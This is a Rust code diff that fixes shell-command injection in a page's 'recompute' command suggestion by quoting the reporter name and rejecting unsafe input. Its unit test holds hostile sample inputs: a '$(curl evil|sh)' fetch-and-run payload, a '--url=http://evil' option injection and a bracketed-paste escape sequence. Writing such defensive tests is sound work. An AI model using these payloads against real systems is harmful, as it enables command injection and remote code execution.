@@ -21,6 +21,7 @@ use super::{
     in_use::unit_words,
     link::{Cell, Link, entry_href, escaped},
     records::Problem,
+    shell,
     text::{self, Arg},
     twins::csv,
     visit::{Desk, Format, Visit},
@@ -47,7 +48,7 @@ struct Page {
     reporters: Vec<(Link, String)>,
     count: String,
     series: Vec<SeriesView>,
-    recompute: String,
+    recompute: Option<String>,
     next: Option<String>,
     first: Option<String>,
 }
@@ -151,6 +152,15 @@ impl Asked {
         let mark = if given.is_empty() { "" } else { "?" };
         visit.href(&format!("/series{ending}{mark}{given}"))
     }
+
+    /// The command that computes the same from the log; none where no reporter is asked for, or one that no terminal takes.
+    fn command(&self) -> Option<String> {
+        let reporter = self.reporter.as_deref().filter(|reporter| shell::is_pasted_safely(reporter))?;
+        let measure = self.measure.map(|measure| format!(" --measure {}", measure.code())).unwrap_or_default();
+        // A name that begins like an option is none.
+        let end = if reporter.starts_with('-') { " --" } else { "" };
+        Some(format!("veedor figures series{measure}{end} {}", shell::quoted(reporter)))
+    }
 }
 
 fn page(
@@ -182,7 +192,7 @@ fn page(
         reporters: restating.iter().map(of).collect(),
         count: text::count(lang, "series-count", total as u64),
         series: shown.iter().enumerate().map(|(at, series)| SeriesView::new(at, series, lang, &names)).collect(),
-        recompute: format!("veedor figures series {}", asked.reporter.as_deref().unwrap_or_default()),
+        recompute: asked.command(),
         next,
         first: (asked.from > 0).then(|| asked.address(desk.visit, "", 0)),
     };
@@ -314,4 +324,37 @@ fn csv_rows(series: &Series) -> Vec<Vec<String>> {
         .flat_map(|period| period.all.iter().map(move |version| (period, version)))
         .map(|(period, version)| row(period, version))
         .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use expect_test::expect;
+
+    use super::{Asked, Measure};
+
+    #[test]
+    fn the_command_runs_nothing_that_was_asked_for() {
+        let of = |reporter: &str, measure: Option<&str>| {
+            let (reporter, measure) = (Some(reporter.to_owned()), measure.and_then(Measure::parse));
+            Asked { reporter, measure, unit: None, from: 0 }.command().unwrap_or_else(|| "none".to_owned())
+        };
+        let commands = [
+            of("mx/fgr", None),
+            of("mx/fgr", Some("interception")),
+            of("$(curl evil|sh)", None),
+            of("Sheriff's Office", Some("interception")),
+            of("--url=http://evil", None),
+            of("a\u{1b}[201~id", None),
+            Asked { reporter: None, measure: None, unit: None, from: 0 }.command().unwrap_or_else(|| "none".to_owned()),
+        ];
+        expect![[r#"
+            veedor figures series 'mx/fgr'
+            veedor figures series --measure interception 'mx/fgr'
+            veedor figures series '$(curl evil|sh)'
+            veedor figures series --measure interception 'Sheriff'\''s Office'
+            veedor figures series -- '--url=http://evil'
+            none
+            none"#]]
+        .assert_eq(&commands.join("\n"));
+    }
 }
